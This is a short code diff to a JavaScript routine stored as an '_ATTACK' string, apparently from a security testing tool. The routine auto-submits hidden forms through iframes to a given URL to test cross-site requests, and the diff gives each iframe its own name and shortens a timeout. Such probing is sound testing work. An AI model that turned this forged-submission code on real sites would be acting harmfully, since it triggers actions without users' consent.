@@ -32,18 +32,19 @@ _ATTACK = """async ({url, method, body}) => {
     Object.assign(element, address);
     document.body.append(element);
   });
+  let forms = 0;
   const submit = (attributes, name, value) => new Promise((resolve) => {
     const frame = document.createElement("iframe");
     const form = document.createElement("form");
     const field = document.createElement("input");
-    frame.name = "target";
-    Object.assign(form, {method, action: url, target: "target", ...attributes});
+    frame.name = `target-${forms++}`;
+    Object.assign(form, {method, action: url, target: frame.name, ...attributes});
     Object.assign(field, {name, value});
     form.append(field);
     document.body.append(frame, form);
     frame.addEventListener("load", () => { frame.remove(); resolve("sent"); });
     form.submit();
-    setTimeout(() => resolve("sent"), 3000);
+    setTimeout(() => resolve("sent"), 500);  // whatever is still under way is waited for below
   });
   if (method === "GET") {
     await attempt("read", async () => (await ask({})).status);
